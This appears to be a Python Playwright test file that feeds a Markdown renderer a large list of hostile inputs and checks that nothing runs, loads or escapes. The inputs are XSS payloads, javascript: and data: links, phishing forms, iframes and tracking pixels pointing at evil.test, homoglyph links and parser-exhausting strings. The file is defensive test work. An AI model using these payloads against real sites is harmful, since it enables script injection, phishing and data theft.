"""Texts that try to become more than text when they are drawn as Markdown, and what a page makes of them."""

from __future__ import annotations

from playwright.sync_api import Page

from tests.e2e.console import Console
from tests.e2e.console_pages import MARKUP, MODULE, TURNS

_TAGS = (
    "<script>hit(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>hit(1)</scr</script>ipt>",
    "<img src=x onerror=hit(1)>",
    "<img src='http://evil.test/pixel'>",
    "<svg onload=hit(1)>",
    "<svg><script>hit(1)</script></svg>",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=hit(1)></mtext></math>",
    "<iframe src=http://evil.test></iframe>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "<object data=http://evil.test/x.swf></object>",
    "<embed src=http://evil.test/x.swf>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<style>body { display: none }</style>",
    "<form action=http://evil.test><input name=token><button>Log in</button></form>",
    "<button onclick=hit(1) autofocus>Approve</button>",
    "<input autofocus onfocus=hit(1)>",
    "<details open ontoggle=hit(1)>x</details>",
    "<video src=x onerror=hit(1)></video>",
    "<audio src=x onerror=hit(1)></audio>",
    "<body onload=hit(1)>",
    "<marquee onstart=hit(1)>x</marquee>",
    "<div style='position:fixed;inset:0;background:red'>Log in again</div>",
    "<a href=javascript:hit(1)>x</a>",
    "<a href='http://evil.test' target=_top>Approve</a>",
    "<template><img src=x onerror=hit(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit(1)>'></noscript>",
    "<!--><img src=x onerror=hit(1)>-->",
    "<![CDATA[<img src=x onerror=hit(1)>]]>",
    "<?php hit(1) ?><x onclick=hit(1)>",
    "</div></main></body><script>hit(1)</script>",
    "<dialog open>Your session has ended: log in</dialog>",
    "<p id=main>a second main</p>",
    "<x-a is=b onclick=hit(1)>y</x-a>",
    "&lt;script&gt;hit(1)&lt;/script&gt;",
    "&#60;img src=x onerror=hit(1)&#62;",
    "\\<script>hit(1)\\</script>",
    "<img src=x onerror=hit(1)//",
    "<<img src=x onerror=hit(1)>>",
    MARKUP,
)
_LINKS = (
    "[x](javascript:hit(1))",
    "[x](JaVaScRiPt:hit(1))",
    "[x](java\nscript:hit(1))",
    "[x](&#106;avascript:hit(1))",
    "[x](&#x6A&#x61;vascript:hit(1))",
    "[x](%6Aavascript:hit(1))",
    "[x](<javascript:hit(1)>)",
    "[x](\\javascript:hit(1))",
    "[x]( javascript:hit(1))",
    "[x](\x01javascript:hit(1))",
    "[x](vbscript:hit(1))",
    "[x](data:text/html,<script>hit(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=hit(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://evil.test/1)",
    "[x](about:blank)",
    "[x](view-source:http://evil.test)",
    "[x](filesystem:http://evil.test/x)",
    "[x](ms-word:ofe|u|http://evil.test)",
    "[x](tel:+1)",
    "[x](/v1/fleet/down)",
    "[x](#/settings)",
    "[x](//evil.test/x)",
    "[x](http:evil.test)",
    "[https://good.test](https://evil.test)",
    "[Approve](https://evil.test 'a title\" onclick=\"hit(1)')",
    "[x](https://good.test@evil.test/)",
    "[x](https://xn--80ak6aa92e.test)",
    "[x](https://g\u043e\u043ed.test)",
    "[x](https://good.test/\u202etxt.exe)",
    "[](https://evil.test)",
    "[![x](https://evil.test/pixel.png)](https://evil.test)",
    "![x](https://evil.test/pixel.png)",
    "![x](javascript:hit(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGl0KDEpPg==)",
    '![x" onerror=hit(1) a="](x)',
    "![a](x 'onerror=hit(1)')",
    "[a]: javascript:hit(1)\n\n[a]",
    "[a]: https://evil.test 'onclick=hit(1)'\n\n[a] [b][a]",
    "<javascript:hit(1)>",
    "<https://evil.test/x?a=<b>>",
    "<mailto:a@evil.test?body=hit(1)>",
    'https://evil.test/"onmouseover=hit(1)//',
    "www.evil.test and evil.test and a@evil.test",
    "[x](https://evil.test/?q=" + "a" * 3_000 + ")",
)
_SHAPES = (
    "`<script>hit(1)</script>`",
    "```html\n<script>hit(1)</script>\n```",
    '```" onclick=hit(1) x="\n<b>\n```',
    "~~~javascript:hit(1)\nx\n~~~",
    "    <script>hit(1)</script>",
    "# <script>hit(1)</script>\n## [x](javascript:hit(1))",
    "> <img src=x onerror=hit(1)>",
    "- <img src=x onerror=hit(1)>\n  - [x](javascript:hit(1))",
    "| <script>hit(1)</script> | [x](javascript:hit(1)) |\n|:--|--:|\n| <b>a | ![x](https://evil.test/p) |",
    "99999999999. far\n1. near",
    f"**{TURNS}** and *a\u2066b\u2069*",
    "zero\u200bwidth \u00ad soft \ufeff mark \U000e0041 tag",
    "a\x00b\x07c\x1b[31md\x1b]8;;http://evil.test\x07e",
    "**a *b **c *d" * 200,
    "[" * 2_000 + "x" + "](y)" * 2_000,
    "> " * 500 + "deep",
    "- " * 300 + "deep",
    "*" * 5_000,
    "`" * 5_000,
    "<" * 5_000,
    "![" * 2_000,
    "|" * 3_000 + "\n" + "-|" * 1_500,
    "x" * 120_000,
    "{{7*7}} ${hit(1)} #{hit(1)} <%= hit(1) %>",
    "__proto__ [constructor](constructor) [__proto__]: x",
)
HOSTILE_TEXTS = (*_TAGS, *_LINKS, *_SHAPES)

DRAWN = (
    f"async (texts) => {{ {MODULE}"
    + """
  const [{ draw }, { render }] = await Promise.all([module('lib/markdown.js'), import('preact')]);
  const tags = new Set(), names = new Set(), addresses = new Set(), bare = [];
  window.hits = 0;
  window.hit = () => { window.hits += 1; };
  const box = document.createElement('section');
  document.body.append(box);
  for (const text of texts) {
    render(draw(text), box);
    for (const one of box.querySelectorAll('*')) {
      tags.add(one.localName);
      for (const name of one.getAttributeNames()) names.add(name);
    }
    for (const one of box.querySelectorAll('a')) {
      addresses.add(one.protocol);
      const beside = one.nextElementSibling?.textContent, words = one.textContent;
      if (![words, beside?.slice(1, -1)].includes(one.getAttribute('href'))) bare.push(one.outerHTML);
    }
    await new Promise((done) => setTimeout(done));
  }
  render(null, box);
  box.remove();
  const sorted = (some) => [...some].sort();
  return { tags: sorted(tags), names: sorted(names), addresses: sorted(addresses), bare, hits: window.hits };
}"""
)
"""Draws each of them into the page; what elements, attributes and addresses came of it."""

DRAWN_TAGS = frozenset(
    "a b blockquote br code div em h3 h4 h5 hr li ol p pre s span table tbody td th thead tr ul".split()
)
DRAWN_NAMES = frozenset(("aria-label", "class", "href", "rel", "role", "start", "tabindex", "target"))
"""Nothing of these loads, runs or covers anything."""


def nothing_but_text(console: Console, page: Page) -> None:
    asked = list[str]()
    page.on("request", lambda request: asked.append(request.url))
    told = page.evaluate(DRAWN, list(HOSTILE_TEXTS))
    assert set(told.pop("tags")) <= DRAWN_TAGS and set(told.pop("names")) <= DRAWN_NAMES, told
    assert told == {"addresses": ["http:", "https:", "mailto:"], "bare": [], "hits": 0}
    assert not [url for url in asked if not url.startswith(console.url)]
    assert not page.evaluate("() => [document.title, location.hash].filter((one) => /hit|evil/.test(one))[0]")
